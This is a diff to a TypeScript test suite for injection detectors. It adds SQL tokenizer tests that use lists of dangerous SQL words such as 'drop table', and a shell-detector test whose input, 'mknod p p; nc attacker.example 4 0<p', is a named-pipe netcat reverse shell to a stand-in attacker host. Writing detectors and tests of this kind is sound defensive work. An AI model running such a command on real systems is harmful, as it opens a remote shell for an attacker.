@@ -6,6 +6,8 @@ import { shellCommand } from './commands/detect.ts'
 import { costlyQuery } from './graphql/detect.ts'
 import { strayPath } from './paths/detect.ts'
 import { sqlInjectionShape } from './sqli/detect.ts'
+import { sqlTokens } from './sqli/tokenize.ts'
+import { DANGEROUS, FUNCTIONS, STATEMENT_OBJECTS, WORDS } from './sqli/words.ts'
 import { scriptInjection } from './xss/detect.ts'
 
 type Detector = (text: string) => string | undefined
@@ -256,6 +258,30 @@ judges(
     ],
   ],
 )
+
+test('words of SQL are told from others in any case; others are plain, called or not', () => {
+  for (const spelled of [(word: string) => word, (word: string) => word.toUpperCase()]) {
+    for (const [word, kind] of WORDS) if (kind.length === 1) assert.equal(sqlTokens(spelled(word), 0), kind, word)
+    for (const word of DANGEROUS) assert.equal(sqlTokens(`${spelled(word)}(`, 0), 'F(', word)
+    for (const word of FUNCTIONS)
+      if (!DANGEROUS.has(word) && !WORDS.has(word)) assert.equal(sqlTokens(`${spelled(word)}(`, 0), 'f(', word)
+    assert.equal(sqlTokens(spelled('drop table'), 0)[0], 'D')
+  }
+  fc.assert(
+    fc.property(fc.stringMatching(/^[A-Za-z_]{1,45}$/), (word) => {
+      const lower = word.toLowerCase()
+      fc.pre(![WORDS, DANGEROUS, FUNCTIONS, STATEMENT_OBJECTS].some((known) => known.has(lower)))
+      assert.match(sqlTokens(word, 0), /^[wf]$/)
+      assert.match(sqlTokens(`${word}(1)`, 0), /^(?:w|g|F)\(n\)$/)
+    }),
+    { numRuns: 2_000 },
+  )
+})
+
+test('a command line that no separator begins is found behind no command that is known as one', () => {
+  assert.equal(shellCommand('mknod p p; nc attacker.example 4 0<p'), 'command line')
+  assert.equal(shellCommand('mknod the place, then tell me'), undefined)
+})
 
 test('property: no detector throws, whatever the bytes', () => {
   const hostile = fc.stringMatching(
